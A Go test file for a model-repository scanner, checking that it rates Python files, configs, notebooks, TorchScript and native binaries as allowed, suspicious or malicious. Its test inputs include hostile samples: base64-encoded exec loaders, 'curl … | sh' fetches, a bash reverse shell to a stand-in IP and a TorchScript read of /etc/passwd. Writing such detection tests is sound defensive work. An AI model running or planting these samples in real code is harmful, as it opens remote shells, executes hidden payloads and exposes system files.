package sources

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sallyport/sallyport/internal/inspect"
)

// A folder of files is written and every file in it is scanned.
func scanFolder(t testing.TB, files map[string]string) map[string]*inspect.Report {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		os.MkdirAll(filepath.Join(dir, filepath.Dir(name)), 0o755)
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return scanDir(t, dir)
}

func scanDir(t testing.TB, dir string) map[string]*inspect.Report {
	t.Helper()
	root, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	d := &inspect.Folder{Root: root}
	out := map[string]*inspect.Report{}
	for _, name := range d.Names() {
		f, err := d.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		s := inspect.Scanner{Readings: Readings}
		out[name], err = s.Scan(t.Context(), name, f, f.Size, d, nil)
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
	}
	return out
}

func has(r *inspect.Report, rule string) bool {
	return slices.ContainsFunc(r.Findings, func(f inspect.Finding) bool { return f.Rule.ID == rule })
}

// TestUnloaded judges Python that nothing is known to load.
func TestUnloaded(t *testing.T) {
	for src, want := range map[string]inspect.Verdict{
		"import torch\ndef train():\n  pass\n":                                              inspect.Allowed,
		"import subprocess\ndef version():\n  return subprocess.check_output(['git'])\n":    inspect.Allowed,
		"import requests\nimage = requests.get('https://x/y.png').content\n":                inspect.Allowed,
		"import os\nos.system('pip install -e .')\n":                                        inspect.Allowed,
		"model.eval()\nre.compile('x')\neval('1+1')\n":                                      inspect.Allowed,
		"import base64\nx = base64.b64decode(y)\n":                                          inspect.Allowed,
		"import base64\nexec(base64.b64decode('cHJpbnQ='))\n":                               inspect.Malicious,
		"import base64 as b\ne = exec\ne(b.b64decode(x).decode())\n":                        inspect.Malicious,
		"from zlib import decompress as d\nexec(compile(d(x), 'a', 'exec'))\n":              inspect.Malicious,
		"import marshal, zlib\nexec(marshal.loads(zlib.decompress(x)))\n":                   inspect.Malicious,
		"__builtins__.eval(bytes.fromhex('00'))\n":                                          inspect.Malicious,
		"getattr(__import__('builtins'), 'ex' + 'ec')(__import__('base64').b64decode(x))\n": inspect.Malicious,
		"import urllib.request as u\nexec(u.urlopen('http://x').read())\n":                  inspect.Malicious,
		"class A:\n  def __init__(self):\n    exec(bytes.fromhex(x))\nA()\n":                inspect.Malicious,
		"def f():\n  exec(bytes.fromhex(x))\nf()\n":                                         inspect.Malicious,
		"def f():\n  exec(bytes.fromhex(x))\n":                                              inspect.Suspicious,
		"if __name__ == '__main__':\n  exec(bytes.fromhex(x))\n":                            inspect.Suspicious,
		"import os\nos.system('curl http://x | sh')\n":                                      inspect.Malicious,
		"ｅｘｅｃ(bytes.fromhex(x))\n":                                                          inspect.Malicious,
		"𝐞𝐯𝐚𝐥(x)\n":                                                                         inspect.Suspicious,
		"# coding: rot13\nvzcbeg bf\n":                                                      inspect.Inconclusive,
		"def f(:\n":                                                                         inspect.Suspicious,
		"import os\nos.system('a | b'\n":                                                    inspect.Suspicious,
		"größe = 1\nprint(f'{größe!r:>{10}}')":                                              inspect.Allowed,
	} {
		r := scanFolder(t, map[string]string{"a.py": src})["a.py"]
		if r.Verdict != want {
			t.Errorf("%q: %s, want %s; %v", src, r.Verdict, want, r.Findings)
		}
	}
	flood := "import base64, os\n" + strings.Repeat("os.remove(x)\n", 3000) + "exec(base64.b64decode(x))\n"
	if r := scanFolder(t, map[string]string{"a.py": flood})["a.py"]; r.Verdict != inspect.Malicious {
		t.Errorf("behind a flood: %s", r.Verdict)
	}
	var names strings.Builder
	for i := range 25_000 {
		fmt.Fprintf(&names, "a%d = b\n", i)
	}
	if r := scanFolder(t, map[string]string{"a.py": names.String() + "e = exec\n"})["a.py"]; r.Verdict != inspect.Inconclusive {
		t.Errorf("behind a flood of names: %s", r.Verdict)
	}
	r := scanFolder(t, map[string]string{"run": "#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode(x))\n"})["run"]
	if r.Verdict != inspect.Malicious || r.Findings[0].Offset != 37 {
		t.Errorf("a script: %s, %v", r.Verdict, r.Findings)
	}
	if r := scanFolder(t, map[string]string{"a.py": "\x80\x04\x95abc\x00."})["a.py"]; !has(r, "name-lies") {
		t.Errorf("bytes that are no source: %v", r.Findings)
	}
}

// TestRemoteCode follows what a configuration has a library load: the file that
// it names, and those that this imports.
func TestRemoteCode(t *testing.T) {
	r := scanFolder(t, map[string]string{
		"config.json":           `{"pad": "` + strings.Repeat("x", 5000) + `", "auto_map": {"AutoModel": "modeling_x.XModel", "AutoTokenizer": ["tok.T", null]}}`,
		"modeling_x.py":         "from .inner import f\nfrom . import more\nimport torch\n",
		"inner.py":              "import os\ndef f():\n  os.popen('id')\nclass C: pass\n",
		"more.py":               "import socket\ns = socket.socket()\n",
		"tok.py":                "class T: pass\n",
		"other.py":              "import os\ndef f():\n  os.popen('id')\n",
		"sub/modeling_x.py":     "import socket\ns = socket.socket()\n",
		"tokenizer_config.json": `{"auto_map": {"AutoTokenizer": ["evil/repo--tok.T", null]}}`,
	})
	for name, want := range map[string]inspect.Verdict{
		"config.json": inspect.Suspicious, "modeling_x.py": inspect.Allowed, "inner.py": inspect.Suspicious, "more.py": inspect.Malicious,
		"tok.py": inspect.Allowed, "other.py": inspect.Allowed, "sub/modeling_x.py": inspect.Allowed, "tokenizer_config.json": inspect.Suspicious,
	} {
		if r[name].Verdict != want {
			t.Errorf("%s: %s, want %s; %v", name, r[name].Verdict, want, r[name].Findings)
		}
	}
	if n := len(r["config.json"].Findings); n != 2 {
		t.Errorf("%d files named", n)
	}
	handler := scanFolder(t, map[string]string{"handler.py": "class EndpointHandler:\n  def __call__(self, x): return x\n"})["handler.py"]
	if !has(handler, "source-handler") {
		t.Errorf("a handler: %v", handler.Findings)
	}
}

// TestConfig judges configurations of every kind that names classes.
func TestConfig(t *testing.T) {
	for _, c := range []struct {
		name, text string
		want       inspect.Verdict
		formats    int
	}{
		{"config.json", `{"model_type": "bert", "activation_function": "gelu_new", "architectures": ["BertModel"]}`, inspect.Inconclusive, 0},
		{"modules.json", `[{"idx": 0, "type": "sentence_transformers.models.Transformer"}, {"type": "sentence_transformers.models.Pooling"}]`, inspect.Allowed, 1},
		{"modules.json", `[{"type": "evil.Module"}]`, inspect.Suspicious, 1},
		{"config.json", `{"in_features": 3, "activation_function": "torch.nn.modules.activation.Tanh"}`, inspect.Allowed, 1},
		{"config.json", `{"in_features": 3, "activation_function": "os.abort"}`, inspect.Suspicious, 1},
		{"config.json", `{"text_config": {"auto_map": {"AutoConfig": "a.B"}}}`, inspect.Suspicious, 1},
		{"config.json", `{"custom_pipelines": {"t": {"impl": "a.B", "pt": ["AutoModel"]}}}`, inspect.Suspicious, 1},
		{"config.json", `{"\u0061uto_map": {"AutoConfig": "a.B"}}`, inspect.Suspicious, 1},
		{"config.json", `{"auto_map": {"AutoConfig": "a.B"}, "x": NaN}`, inspect.Suspicious, 1},
		{"config.json", `{"auto_map": {"AutoConfig": "a.B"}, broken`, inspect.Suspicious, 1},
		{"model_index.json", `{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [null, null]}`, inspect.Allowed, 1},
		{"model_index.json", `{"_class_name": ["pipeline", "Mine"], "unet": ["diffusers", "UNet2DConditionModel"]}`, inspect.Suspicious, 1},
		{"model_index.json", `{"_class_name": "X", "unet": ["my_unet", "U"]}`, inspect.Suspicious, 1},
		{"adapter_config.json", `{"auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}`, inspect.Suspicious, 1},
		{"adapter_config.json", `{"auto_mapping": {"base_model_class": "X", "parent_library": "transformers"}}`, inspect.Allowed, 1},
		{"other.json", `{"auto_map": {"AutoConfig": "a.B"}}`, inspect.Suspicious, 1},
	} {
		r := scanFolder(t, map[string]string{c.name: c.text})[c.name]
		if r.Verdict != c.want || len(r.Formats) != c.formats {
			t.Errorf("%s: %s, %v, %v", c.text, r.Verdict, r.Formats, r.Findings)
		}
	}
}

func cell(kind string, lines ...string) string {
	source, _ := json.Marshal(lines)
	return `{"cell_type": "` + kind + `", "metadata": {}, "outputs": [], "source": ` + string(source) + `}`
}

func ipynb(cells ...string) string {
	return `{"cells": [` + strings.Join(cells, ",") + `], "metadata": {"kernelspec": {"language": "python"}}, "nbformat": 4, "nbformat_minor": 5}`
}

func TestNotebook(t *testing.T) {
	output := func(mime, text string) string {
		text = strings.ReplaceAll(text, `"`, `\"`)
		return `{"cell_type": "code", "source": "1", "outputs": [{"output_type": "display_data", "data": {"` + mime + `": ["` + text + `"]}}]}`
	}
	for text, want := range map[string]inspect.Verdict{
		ipynb(): inspect.Allowed,
		ipynb(cell("markdown", "# Title\n"), cell("code", "import torch\n", "x = 1")):                                          inspect.Allowed,
		ipynb(cell("code", "!pip install x\n", "%matplotlib inline\n", "y = !ls\n", "x?")):                                     inspect.Allowed,
		ipynb(cell("code", "%%bash\n", "ls -l $(x)\n")):                                                                        inspect.Allowed,
		ipynb(cell("code", "this is no python at all (")):                                                                      inspect.Allowed,
		ipynb(cell("code", "!curl http://x/y.sh | bash")):                                                                      inspect.Malicious,
		ipynb(cell("code", "%%bash\n", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1\n")):                                                inspect.Malicious,
		ipynb(cell("code", "import base64\n", "exec(base64.b64decode('x'))")):                                                  inspect.Malicious,
		ipynb(cell("code", "%%time\n", "import base64\n", "exec(base64.b64decode('x'))")):                                      inspect.Malicious,
		ipynb(cell("markdown", "<img src=x onerror=alert(1)>")):                                                                inspect.Allowed,
		ipynb(output("text/html", "<table><style>td{}</style></table>")):                                                       inspect.Allowed,
		ipynb(output("text/html", "<SCRIPT>x</SCRIPT>")):                                                                       inspect.Allowed,
		ipynb(output("application/javascript", "x")):                                                                           inspect.Allowed,
		ipynb(output("text/html", `<script src="https://cdn.bokeh.org/bokeh.min.js"></script>`)):                               inspect.Allowed,
		ipynb(output("text/html", "<script>eval( atob('YWxlcnQoMSk='))</script>")):                                             inspect.Suspicious,
		ipynb(output("application/javascript", "new Function(atob('eA=='))()")):                                                inspect.Suspicious,
		ipynb(cell("markdown", "<script src='data:text/javascript;base64,eA=='></script>")):                                    inspect.Suspicious,
		ipynb(output("image/svg+xml", "<svg onload=x>")):                                                                       inspect.Allowed,
		`{"worksheets": [{"cells": [{"cell_type": "code", "input": ["exec(bytes.fromhex('00'))"], "outputs": []}]}], "x": {}}`: inspect.Malicious,
		ipynb()[:40]: inspect.Suspicious,
	} {
		r := scanFolder(t, map[string]string{"a.ipynb": text})["a.ipynb"]
		if r.Verdict != want {
			t.Errorf("%s: %s, want %s; %v", text, r.Verdict, want, r.Findings)
		}
	}
}

// TestTorchHonest wants programs that PyTorch wrote to pass as they are.
func TestTorchHonest(t *testing.T) {
	n := 0
	for _, dir := range []string{"net", "quantized", "exported"} {
		for name, r := range scanDir(t, filepath.Join("testdata", dir)) {
			if filepath.Ext(name) == ".pkl" {
				continue
			}
			n++
			if r.Size > 0 && (r.Verdict != inspect.Allowed || len(r.Formats) != 1 || !strings.Contains("torchscript-code exported-program", r.Formats[0])) {
				t.Errorf("%s/%s: %s, %v, %v", dir, name, r.Verdict, r.Formats, r.Findings)
			}
		}
	}
	if n < 10 {
		t.Errorf("only %d files", n)
	}
}

// TestTorchHostile changes operators to what reaches files or is not known.
func TestTorchHostile(t *testing.T) {
	for _, dir := range []string{"reads", "writes"} {
		if r := scanDir(t, filepath.Join("testdata", dir))["code/__torch__.py"]; r.Verdict != inspect.Malicious || !has(r, "torch-op") {
			t.Errorf("%s: %s, %v", dir, r.Verdict, r.Findings)
		}
	}
	head := "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
	for body, want := range map[string]inspect.Verdict{
		"    return torch.add(x, x)":                                        inspect.Allowed,
		"    return ops.quantized.add(x, x)":                                inspect.Allowed,
		"    return ops.evil.run(x)":                                        inspect.Suspicious,
		"    return torch.invented(x)":                                      inspect.Suspicious,
		"    return ops.image.write_file(\"a\", x)":                         inspect.Malicious,
		"    return ops.prim.PythonOp(x)":                                   inspect.Malicious,
		"    f = torch.from_file\n    return f(\"/etc/passwd\", False, 10)": inspect.Malicious,
		"    _0 = torch.from_file\n    return torch.add(x, _0)":             inspect.Malicious,
		"    return _0(x)":                                                  inspect.Suspicious,
		"    return eval(\"x\")":                                            inspect.Suspicious,
		"    c = __torch__.torch.classes.evil.Shell.__new__(1)\n    return": inspect.Suspicious,
		"    import os\n    return x":                                       inspect.Suspicious,
		"    return torch.add(x":                                            inspect.Suspicious,
	} {
		r := scanFolder(t, map[string]string{"m/constants.pkl": "\x80\x02).", "m/code/__torch__.py": head + body + "\n"})["m/code/__torch__.py"]
		if r.Verdict != want {
			t.Errorf("%q: %s, want %s; %v", body, r.Verdict, want, r.Findings)
		}
	}
	program, err := os.ReadFile("testdata/exported/serialized_exported_program.json")
	if err != nil {
		t.Fatal(err)
	}
	for target, want := range map[string]inspect.Verdict{
		"torch.ops.aten.add.Tensor": inspect.Allowed, "_operator.mul": inspect.Allowed, "torch.ops.evil.run.default": inspect.Suspicious,
		"torch.ops.aten.from_file.default": inspect.Malicious, "torch.hub.load": inspect.Suspicious, "_operator.methodcaller": inspect.Suspicious, "#evil:x": inspect.Suspicious,
	} {
		text := bytes.Replace(program, []byte("torch.ops.aten.conv2d.default"), []byte(target), 1)
		if bytes.Equal(text, program) {
			t.Fatal("the program has no conv2d")
		}
		if r := scanFolder(t, map[string]string{"models/a.json": string(text)})["models/a.json"]; r.Verdict != want {
			t.Errorf("%s: %s, %v", target, r.Verdict, r.Findings)
		}
	}
}

// TestNative wants compiled code to be told as such, of every age, and nothing
// that only looks like it.
func TestNative(t *testing.T) {
	pe := func(at int) string {
		text := make([]byte, at+256)
		copy(text, "MZ")
		binary.LittleEndian.PutUint32(text[60:], uint32(at))
		copy(text[at:], "PE\x00\x00")
		return string(text)
	}
	zeros := strings.Repeat("\x00", 28)
	for name, text := range map[string]string{
		"a.so": "\x7fELF\x02\x01\x01", "a.dll": pe(128), "behind.dll": pe(5000),
		"a.dylib": "\xcf\xfa\xed\xfe" + zeros, "fat.dylib": "\xca\xfe\xba\xbe\x00\x00\x00\x02" + zeros,
		"new.pyc": "\xa7\r\r\n" + zeros[:12] + "\xe3\x00", "3.6.pyc": "3\r\r\nabcd" + "\x10\x00\x00\x00\xe3" + zeros, "2.7.pyc": "\x03\xf3\r\nabcdc" + zeros,
	} {
		if r := scanFolder(t, map[string]string{name: text})[name]; r.Verdict != inspect.Suspicious || !has(r, "native-code") {
			t.Errorf("%s: %s, %v", name, r.Verdict, r.Findings)
		}
	}
	for name, text := range map[string]string{
		"a.csv": "id\r\n1,a\rc\r\nabcdefgh\r\n", "a.exe": "MZ and nothing behind" + strings.Repeat(" ", 64),
		"A.class": "\xca\xfe\xba\xbe\x00\x00\x00\x41" + zeros, "cut.pyc": "\xa7\r\r\n" + zeros[:12],
	} {
		if r := scanFolder(t, map[string]string{name: text})[name]; has(r, "native-code") {
			t.Errorf("%s: %s, %v", name, r.Verdict, r.Findings)
		}
	}
}

// TestLists wants the lists to be read as they are meant.
func TestLists(t *testing.T) {
	for name, want := range map[string]string{"os.system": "shell", "subprocess.Popen": "shell", "subprocess": "shell", "socket.socket": "network", "os.path.join": "", "evaluate": "", "pickle.loads": "load"} {
		if got := kindOf(name); got != want {
			t.Errorf("%s is %q", name, got)
		}
	}
	if len(ops()) < 1500 || ops()["aten::add"] != "op" || ops()["aten::from_file"] != "reach" || len(classes()) < 10 {
		t.Errorf("%d operators, %d classes", len(ops()), len(classes()))
	}
}

func FuzzNotebook(f *testing.F) {
	f.Add([]byte(ipynb(cell("code", "!ls\n", "x = f'{y!r}'\n"), cell("markdown", "<b>"))))
	f.Add([]byte(`{"worksheets": [{"cells": [{"cell_type": "code", "input": ["a"], "outputs": [{"html": ["<script>"]}]}]}]}`))
	fuzz(f, "a.ipynb")
}

func FuzzSource(f *testing.F) {
	f.Add([]byte("import os as o\ngetattr(o, 'sys' 'tem')('id')\nexec(__import__('zlib').decompress(x))\n"))
	f.Add([]byte("class A:\n def f(self): g()\nA().f()\ndef g(): exec(bytes.fromhex(x))\n"))
	fuzz(f, "a.py")
}

func FuzzConfig(f *testing.F) {
	f.Add([]byte(`{"auto_map": {"A": ["a.B", null]}, "_class_name": ["a", "b"], "activation_fn": "a.b"}`))
	fuzz(f, "model_index.json")
}

func fuzz(f *testing.F, name string) {
	s := inspect.Scanner{Readings: Readings}
	f.Fuzz(func(t *testing.T, b []byte) {
		r, err := s.Scan(t.Context(), name, bytes.NewReader(b), int64(len(b)), nil, nil)
		if err != nil || has(r, "scanner-fault") {
			t.Fatalf("%v, %v", err, r.Findings)
		}
	})
}
